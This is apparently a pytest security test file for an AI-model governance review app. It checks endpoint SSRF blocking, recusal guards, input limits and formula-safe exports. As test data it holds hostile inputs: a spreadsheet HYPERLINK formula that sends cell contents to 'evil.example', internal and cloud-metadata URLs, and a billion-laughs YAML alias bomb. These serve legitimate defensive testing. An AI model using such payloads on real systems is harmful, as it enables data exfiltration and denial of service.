"""Hardening (../shared/reviews/SECURITY.md): model endpoints under the institution's control, exports without live
formulas. Address checks use a resolver the test controls and loopback listeners the test starts; no traffic goes
to any other range."""

from __future__ import annotations

import csv
import io
import ipaddress

import pytest
from openpyxl import load_workbook

from governance import endpoints
from governance.audit.backends import OpenAIBackend
from governance.audit.items import load_items
from governance.audit.prompts import build

from .conftest import make_app
from .support.openai_stub import StubConfig, StubServer


def resolver(table: dict[str, list[str]]):
    def resolve(host: str, _port: int) -> list[str]:
        if host in table:
            return table[host]
        try:
            ipaddress.ip_address(host)
            return [host]
        except ValueError:
            raise endpoints.EndpointRefused(f"the endpoint's host '{host}' cannot be resolved") from None
    return resolve


PUBLIC = resolver({"models.example.org": ["93.184.216.34"], "rebind.example.org": ["93.184.216.34", "127.0.0.1"],
                   "metadata.example.org": ["169.254.169.254"], "v6.example.org": ["fd00:ec2::254"]})


@pytest.mark.parametrize(("url", "refused_because"), [
    ("http://127.0.0.1:8000/v1", "loopback"),
    ("http://localhost:8000/v1", "loopback"),
    ("http://2130706433:8000/v1", "loopback"),  # 127.0.0.1 as one decimal number
    ("http://0x7f.1:8000/v1", "loopback"),
    ("http://[::1]:8000/v1", "loopback"),
    ("http://[::ffff:127.0.0.1]:8000/v1", "loopback"),
    ("http://10.1.2.3/v1", "private"),
    ("http://192.168.0.10:8000/v1", "private"),
    ("http://172.20.0.5/v1", "private"),
    ("http://169.254.169.254/latest/meta-data", "link-local"),
    ("http://metadata.example.org/v1", "link-local"),
    ("http://v6.example.org/v1", "private (unique local)"),
    ("http://100.64.0.1/v1", "shared"),
    ("http://0.0.0.0:8000/v1", "unspecified"),
    ("http://224.0.0.1/v1", "multicast"),
    ("http://rebind.example.org/v1", "loopback"),  # one public and one loopback address: refused
    ("ftp://models.example.org/v1", "scheme"),
    ("http://user:secret@models.example.org/v1", "credentials"),
    ("http:///v1", "no host"),
])
def test_internal_addresses_are_refused_saying_why_and_who_can_allow_them(url, refused_because):
    system_names = {"localhost", "2130706433", "0x7f.1"}
    resolve = endpoints.system_resolver if any(f"//{n}:" in url for n in system_names) else PUBLIC
    with pytest.raises(endpoints.EndpointRefused) as refused:
        endpoints.check(url, endpoints.EndpointPolicy(), resolve)
    assert refused_because in str(refused.value)
    if refused_because not in {"scheme", "credentials", "no host"}:
        assert "administrator can allow it" in str(refused.value)


def test_public_and_allowed_addresses_pass_and_the_checked_address_is_kept():
    checked = endpoints.check("https://models.example.org/v1", endpoints.EndpointPolicy(), PUBLIC)
    assert checked.address == "93.184.216.34" and checked.port == 443 and checked.host_header == "models.example.org"
    allowed = endpoints.EndpointPolicy(networks=(ipaddress.ip_network("10.20.0.0/16"),))
    assert endpoints.check("http://10.20.3.4:8000/v1", allowed, PUBLIC).address == "10.20.3.4"
    with pytest.raises(endpoints.EndpointRefused):
        endpoints.check("http://10.21.0.1:8000/v1", allowed, PUBLIC)
    by_name = endpoints.EndpointPolicy(hosts=frozenset({"gpu.hospital.internal"}))
    assert endpoints.check("http://gpu.hospital.internal:8000/v1", by_name,
                           resolver({"gpu.hospital.internal": ["10.0.0.7"]})).address == "10.0.0.7"
    ports = endpoints.EndpointPolicy(ports=frozenset({8000}))
    with pytest.raises(endpoints.EndpointRefused, match="port 9000"):
        endpoints.check("http://models.example.org:9000/v1", ports, PUBLIC)


def test_the_audit_connects_to_the_checked_address_not_to_a_new_lookup():
    """The name is never resolved again: a host that does not even exist reaches the pinned loopback stub."""
    item = next(i for i in load_items("builtin").items if i.item_type == "mcq_single")
    with StubServer(StubConfig()) as server:
        backend = OpenAIBackend(f"http://model.invalid:{server.port}/v1", "stub-model", address="127.0.0.1")
        assert backend.describe()["served_models"] == ["stub-model"]
        [(_, response)] = list(backend.stream([build(item, "en", 1)]))
    assert response.text in {"A", "B", "C", "D"} and not response.infrastructure


@pytest.fixture
def strict_app(tmp_path, database_url):
    """An app with the production default: nothing but public addresses (no loopback allowance)."""
    return make_app(tmp_path, database_url, endpoint_allow_networks=())


def test_a_submitters_loopback_endpoint_is_refused_through_the_api(strict_app, tmp_path):
    from governance.db import get_db
    from governance.operations.tokens import create_token

    from .factories import Factory

    session = get_db(strict_app).session_factory()
    factory = Factory(strict_app, session)
    deployment = factory.deployment()
    owner = factory.person("submitter")
    _token, token = create_token(session, owner, name="ci", scope="submit", actor=owner)
    session.commit()
    client = strict_app.test_client()
    for endpoint in ("http://127.0.0.1:8000/v1", "http://169.254.169.254/latest", "/etc"):
        reply = client.post("/api/v1/submissions", headers={"Authorization": f"Bearer {token}"}, json={
            "deployment_id": deployment.id, "kind": "initial", "model_version": {
                "version_label": f"v-{abs(hash(endpoint)) % 1000}", "base_model": "Qwen/Qwen2.5-7B-Instruct",
                "weights_digest": "ab" * 32, "endpoint": endpoint, "served_model_id": "m"}})
        assert reply.status_code in {400, 422}, (endpoint, reply.status_code, reply.get_data(as_text=True))
        message = reply.get_json()["error"]
        assert "administrator can" in message and ("loopback" in message or "link-local" in message or
                                                   "model folder" in message), message
    session.close()


def test_exports_carry_no_live_formula(factory, client):
    from .test_web import login

    factory.deployment(name='=HYPERLINK("http://evil.example/?x="&A1,"click")')
    factory.deployment(name="@SUM(1+1)")
    login(client, factory.person("compliance"))
    text = client.get("/registry.csv").get_data().decode("utf-8-sig")
    names = [row["name"] for row in csv.DictReader(io.StringIO(text))]
    assert any(n.startswith("'=HYPERLINK") for n in names) and any(n.startswith("'@SUM") for n in names)
    assert not any(n.startswith(("=", "+", "-", "@")) for n in names)
    workbook = load_workbook(io.BytesIO(client.get("/registry.xlsx").get_data()))
    cells = [row[1] for row in workbook.active.iter_rows(min_row=2)]
    formulas = [c for c in cells if c.value and str(c.value).startswith("=")]
    assert formulas and all(c.data_type == "s" for c in formulas)  # the text, as a string cell, not a formula


# --- recusal closes every door (SECURITY.md §2 i) ----------------------------------------------------------------

RECUSED_DOORS = ["escalate", "comment", "save_checklist_draft", "answer_checklist", "vote"]


def _door_data(factory, case, door: str) -> dict:
    from .factories import PASSWORD

    return {"escalate": {"reason": "I want the full board to see this."}, "comment": {"text": "Please add more data."},
            "answer_checklist": {"answers": factory.checklist_answers(case)},
            "save_checklist_draft": {"answers": dict(list(factory.checklist_answers(case).items())[:3])},
            "vote": {"meaning": "disapprove", "password": PASSWORD}}[door]


@pytest.fixture
def recused_case(factory):
    """A fast-track case in review; ai1 is assigned and has declared a conflict, ai2 is assigned and has not."""
    case = factory.case_in("in_review")
    chair = factory.person("chair")
    for reviewer in ("ai1", "ai2"):
        factory.fire(case, "assign_reviewer", chair, reviewer=factory.person(reviewer).email)
    factory.fire(case, "declare_conflict", factory.person("ai1"), has_conflict=True, statement="I built this model.")
    return case


def _events_by(session, case, user) -> list[str]:
    from sqlmodel import select

    from governance.models import Event

    session.expire_all()
    return list(session.execute(select(Event.name).where(Event.submission_id == case.id, Event.actor_id == user.id)
                                .order_by(Event.seq)).scalars())


@pytest.mark.both_databases
@pytest.mark.parametrize("channel", ["operation", "web", "api"])
@pytest.mark.parametrize("door", RECUSED_DOORS)
def test_a_recused_member_is_refused_at_every_door(factory, session, client, recused_case, door, channel):
    from governance.operations.tokens import create_token

    from .test_web import login

    case, member = recused_case, factory.person("ai1")
    before = _events_by(session, case, member)
    assert before == ["declare_conflict"]
    data = _door_data(factory, case, door)
    if channel == "operation":
        refusal = factory.refused(case, door, member, **data)
        assert refusal.guard in {"actor_not_recused", "actor_declared_no_conflict"} and "recused" in refusal.reason
    elif channel == "api":
        _token, secret = create_token(session, member, name="ci", scope="submit", actor=member)
        session.commit()
        reply = client.post(f"/api/v1/submissions/{case.id}/events", headers={"Authorization": f"Bearer {secret}"},
                            json={"event": door, "data": data})
        assert reply.status_code == 409 and "recused" in reply.get_json()["error"], reply.get_json()
    else:
        login(client, member)
        if door == "escalate":
            reply = client.post(f"/submissions/{case.id}/events/escalate", data={"escalate-reason": data["reason"]},
                                follow_redirects=True)
        elif door == "comment":
            reply = client.post(f"/submissions/{case.id}/comment", data=data, follow_redirects=True)
        elif door in {"answer_checklist", "save_checklist_draft"}:
            form = {f"answer__{item}": entry["answer"] for item, entry in data["answers"].items()}
            if door == "save_checklist_draft":
                form["draft"] = "1"
            reply = client.post(f"/submissions/{case.id}/checklist", data=form, follow_redirects=True)
        else:
            reply = client.post(f"/submissions/{case.id}/vote", data=data, follow_redirects=True)
        assert reply.status_code == 200 and "recused" in reply.get_data(as_text=True)
    assert _events_by(session, case, member) == before
    if door in {"escalate", "vote"}:
        session.expire_all()
        assert session.get(type(case), case.id).pathway == "ai_subcommittee"


@pytest.mark.parametrize("door", RECUSED_DOORS)
def test_the_same_doors_stay_open_to_a_member_who_is_not_recused(factory, recused_case, door):
    case, member = recused_case, factory.person("ai2")
    factory.fire(case, "declare_conflict", member, has_conflict=False)
    if door == "vote":
        factory.fire(case, "answer_checklist", member, answers=factory.checklist_answers(case))
    assert factory.fire(case, door, member, **_door_data(factory, case, door)).name == door


def test_every_act_of_a_reviewer_or_the_chair_on_a_case_checks_recusal():
    """The guard sits in the transition table, so the page, the API, the CLI and the operations share it."""
    from governance.domain import Role
    from governance.workflow import SUBMISSIONS

    reviewers = {Role.IRB_MEMBER, Role.AI_SUBCOMMITTEE_MEMBER, Role.IRB_CHAIR}
    unguarded = sorted({t.event for t in SUBMISSIONS.transitions
                        if t.roles & reviewers and t.event != "declare_conflict"
                        and not {"actor_not_recused", "actor_declared_no_conflict"} & set(t.guards)})
    assert unguarded == []


# --- input limits (SECURITY.md §4): control characters, JSON depth, body size, one limit per field, YAML ----------

def _api(factory, session, person: str = "submitter") -> dict:
    from governance.operations.tokens import create_token

    user = factory.person(person)
    _token, secret = create_token(session, user, name="ci", scope="submit", actor=user)
    session.commit()
    return {"Authorization": f"Bearer {secret}"}


@pytest.mark.both_databases
@pytest.mark.parametrize("character", ["\x00", "\x01", "\x08", "\x0b", "\x1b", "\x1f"])
@pytest.mark.parametrize("kind", ["web query", "web form", "api query", "api json"])
def test_control_characters_are_refused_with_400_naming_the_field(factory, session, client, kind, character):
    from sqlmodel import select

    from governance.models import Comment

    from .test_web import login

    case = factory.case_in("submitted")
    text = f"a{character}b"
    if kind == "web query":
        login(client, factory.person("chair"))
        reply = client.get("/events", query_string={"name": text})
        field = "name"
    elif kind == "web form":
        login(client, factory.person("submitter"))
        reply = client.post(f"/submissions/{case.id}/comment", data={"text": text})
        field = "text"
    elif kind == "api query":
        reply = client.get("/api/v1/registry", query_string={"status": text}, headers=_api(factory, session, "chair"))
        field = "status"
    else:
        reply = client.post(f"/api/v1/submissions/{case.id}/events", headers=_api(factory, session),
                            json={"event": "comment", "data": {"text": text}})
        field = "data.text"
    assert reply.status_code == 400, reply.get_data(as_text=True)[:300]
    body = reply.get_data(as_text=True)
    assert field in body and "control character" in body
    if kind.startswith("api"):
        assert reply.get_json()["field"] == field
    session.expire_all()
    assert session.execute(select(Comment)).first() is None


def test_tab_and_line_breaks_are_still_text(factory, session, client):
    case = factory.case_in("submitted")
    reply = client.post(f"/api/v1/submissions/{case.id}/events", headers=_api(factory, session),
                        json={"event": "comment", "data": {"text": "first line\r\nsecond\tline"}})
    assert reply.status_code == 200, reply.get_json()


@pytest.mark.parametrize("depth", [33, 1000, 100_000])
def test_json_nested_too_deeply_is_400_not_500(factory, session, client, depth):
    body = "[" * depth + "]" * depth
    reply = client.post("/api/v1/deployments", data=body, content_type="application/json",
                        headers=_api(factory, session))
    assert reply.status_code == 400 and "nested more than 32 levels" in reply.get_json()["error"]


def test_json_within_the_depth_limit_is_read(factory, session, client):
    config: dict = {}
    node = config
    for _ in range(20):
        node["next"] = {}
        node = node["next"]
    deployment = factory.deployment()
    reply = client.post("/api/v1/submissions", headers=_api(factory, session), json={
        "deployment_id": deployment.id, "kind": "initial", "model_version": {
            "version_label": "deep-ok", "base_model": "Qwen2.5-7B-Instruct", "weights_digest": "cd" * 32,
            "endpoint": "demo://good", "serving_config": config}})
    assert reply.status_code == 201, reply.get_json()


@pytest.mark.parametrize("kind", ["api", "web form"])
def test_a_body_over_the_size_limit_is_413(tmp_path, database_url, kind):
    from governance.db import get_db

    from .factories import Factory
    from .test_web import login

    app = make_app(tmp_path, database_url, max_request_bytes=64 * 1024)
    assert app.config["MAX_CONTENT_LENGTH"] == 64 * 1024
    session = get_db(app).session_factory()
    factory, client = Factory(app, session), app.test_client()
    case = factory.case_in("submitted")
    if kind == "api":
        reply = client.post(f"/api/v1/submissions/{case.id}/events", headers=_api(factory, session),
                            json={"event": "comment", "data": {"text": "x" * 70_000}})
        assert reply.status_code == 413 and reply.get_json()["status"] == 413
    else:
        login(client, factory.person("submitter"))
        reply = client.post(f"/submissions/{case.id}/comment", data={"text": "x" * 70_000})
        assert reply.status_code == 413
    session.close()


def test_one_limit_per_field_for_forms_the_api_and_the_engine():
    from governance.classification.descriptor import Descriptor
    from governance.schemas import NOTE_MAX, max_length
    from governance.web import forms
    from governance.workflow import SUBMISSIONS

    def form_limit(form_class, name):
        field = getattr(form_class, name)
        return next(v.max for v in field.kwargs["validators"] if hasattr(v, "max") and v.max != -1)

    assert form_limit(forms.DescriptorForm, "intended_use") == max_length(Descriptor, "intended_use") == NOTE_MAX
    assert form_limit(forms.DescriptorForm, "name") == max_length(Descriptor, "name")
    assert form_limit(forms.CommentForm, "text") == SUBMISSIONS.declared_field("comment", "text").limit
    assert form_limit(forms.VoteForm, "comment") == SUBMISSIONS.declared_field("vote", "comment").limit
    assert form_limit(forms.DeclarationForm, "statement") == \
        SUBMISSIONS.declared_field("declare_conflict", "statement").limit
    for transition in SUBMISSIONS.transitions:  # the generic action forms take the engine's limit
        form_class = forms.action_form_class(transition)
        for spec in transition.fields:
            if spec.limit is not None:
                assert form_limit(form_class, spec.name) == spec.limit, (transition.event, spec.name)


@pytest.mark.parametrize("kind", ["intended use through the api", "comment through the api", "comment as an event"])
def test_the_api_refuses_what_the_form_refuses(factory, session, client, kind):
    from governance.schemas import NOTE_MAX

    headers = _api(factory, session)
    case = factory.case_in("submitted")
    too_long = "x" * (NOTE_MAX + 1)
    if kind == "intended use through the api":
        reply = client.post("/api/v1/deployments", headers=headers, json={
            "descriptor": factory.descriptor("administrative_assistant", name="Long", intended_use=too_long)})
        assert reply.status_code == 400 and "intended_use" in reply.get_json()["error"]
        ok = client.post("/api/v1/deployments", headers=headers, json={
            "descriptor": factory.descriptor("administrative_assistant", name="Ok", intended_use="x" * NOTE_MAX)})
        assert ok.status_code == 201, ok.get_json()
    else:
        reply = client.post(f"/api/v1/submissions/{case.id}/events", headers=headers,
                            json={"event": "comment", "data": {"text": too_long}})
        assert reply.status_code == 400 and f"at most {NOTE_MAX} characters" in reply.get_json()["error"]
        if kind == "comment as an event":
            from governance.operations import TransitionRefused

            with pytest.raises(TransitionRefused, match=f"at most {NOTE_MAX}"):
                factory.fire(case, "comment", factory.person("submitter"), text=too_long)


BILLION_LAUGHS = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(8)) + "users: *i\n"


@pytest.mark.parametrize(("text", "refusal"), [
    (BILLION_LAUGHS, "aliases"),
    ("users: &u [hcp]\noutput_visible_to: *u\n", "aliases"),
    ("x: " + "[" * 200 + "]" * 200 + "\n", "levels deep"),
    ("intended_use: " + "x" * (2 * 1024 * 1024 + 1) + "\n", "KiB"),
])
def test_yaml_without_aliases_deep_nesting_or_huge_files(text, refusal):
    import time

    from governance.datafiles import DataFileError, parse_yaml, safe_load

    for load in (parse_yaml, safe_load):
        started = time.monotonic()
        with pytest.raises(DataFileError, match=refusal):
            load(text, "bomb.yaml")
        assert time.monotonic() - started < 2


def test_govern_classify_refuses_a_yaml_alias_bomb_at_once(runner, tmp_path):
    import time

    bomb = tmp_path / "bomb.yaml"
    bomb.write_text(BILLION_LAUGHS, encoding="utf-8")
    started = time.monotonic()
    result = runner.invoke("classify", str(bomb))
    assert result.exit_code != 0 and "aliases" in (result.output + (result.stderr or ""))
    assert time.monotonic() - started < 5
